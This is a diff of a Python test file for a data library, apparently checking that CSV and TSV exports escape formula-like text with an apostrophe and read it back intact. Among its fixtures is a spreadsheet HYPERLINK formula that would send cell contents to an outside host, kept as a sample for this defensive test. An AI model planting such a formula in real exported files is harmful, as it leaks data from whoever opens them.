@@ -1,10 +1,7 @@
 """A text that looks like a formula gets an apostrophe in CSV and TSV, and comes back as it was."""
 
-from __future__ import annotations
-
 import csv
 from importlib.resources import files
-from pathlib import Path
 
 import pyarrow as pa
 import pytest
@@ -27,7 +24,7 @@ FORMULA = '=HYPERLINK("http://x.org/?"&A1)'
 
 
 @given(st.lists(st.text(st.sampled_from("'=+-@\t\r\nab\" "), max_size=5) | st.text(max_size=5), max_size=20))
-def test_no_written_text_starts_a_formula_and_each_comes_back(relation: Relation, texts: list[str]) -> None:
+def test_no_written_text_starts_a_formula_and_each_comes_back(relation, texts):
     written = with_apostrophes(pa.table({"text": pa.array(texts, pa.string())}))
     assert not any(text.startswith(DANGEROUS) for text in written["text"].to_pylist())
     relation.db.register("written", written)
@@ -36,16 +33,16 @@ def test_no_written_text_starts_a_formula_and_each_comes_back(relation: Relation
 
 
 @pytest.fixture(scope="module")
-def relation(tmp_path_factory: pytest.TempPathFactory) -> Relation:
+def relation(tmp_path_factory) -> Relation:
     return Relation(tmp_path_factory.mktemp("relation"))
 
 
-def test_the_review_page_follows_the_same_rule() -> None:
+def test_the_review_page_follows_the_same_rule():
     assert f'text.replace(/^{START}/, "\'$&")' in files("opera.labels").joinpath("review.html").read_text()
 
 
 @pytest.mark.parametrize("suffix", [".csv", ".tsv"])
-def test_only_texts_get_an_apostrophe(suffix: str, tmp_path: Path) -> None:
+def test_only_texts_get_an_apostrophe(suffix, tmp_path):
     table = pa.table({"query_id": ["-1", "'tis", "'=1"], "score": [-1.5, 2.0, 0.0]})
     write_table(tmp_path / f"table{suffix}", table)
     RunWriter(tmp_path).write_csv("run.csv", table)
@@ -67,7 +64,7 @@ def data() -> opera.RetrievalData:
 ITEM = {"list": "pairs", "query_id": "=q", "doc_id": "@d", "query": FORMULA, "document": "'-f' names a file"}
 
 
-def test_decisions_and_scores_come_back(data: opera.RetrievalData, tmp_path: Path) -> None:
+def test_decisions_and_scores_come_back(data, tmp_path):
     review = tmp_path / "review.csv"
     write_review(review, "title", "test", {}, [{**ITEM, "first_rank": 0.25}])
     with review.open(newline="") as file:
@@ -84,11 +81,10 @@ def test_decisions_and_scores_come_back(data: opera.RetrievalData, tmp_path: Pat
     for suffix in (".tsv", ".parquet"):
         write_table(tmp_path / f"scores{suffix}", scores)
         teacher = with_teacher(Mixture.of(data), tmp_path / f"scores{suffix}").joined.teacher
-        assert teacher is not None
         assert teacher.scores.tolist() == [-2.0]
 
 
-def test_weak_pairs_come_back_and_tables_of_users_keep_their_apostrophes(tmp_path: Path) -> None:
+def test_weak_pairs_come_back_and_tables_of_users_keep_their_apostrophes(tmp_path):
     texts = [f"'-{n}' is a flag" for n in range(5)]
     columns = {"query": [f"=a query {n}" for n in range(5)], "document": texts, "origin": ["title"] * 5}
     write_table(tmp_path / "weak.csv", pa.table(columns))
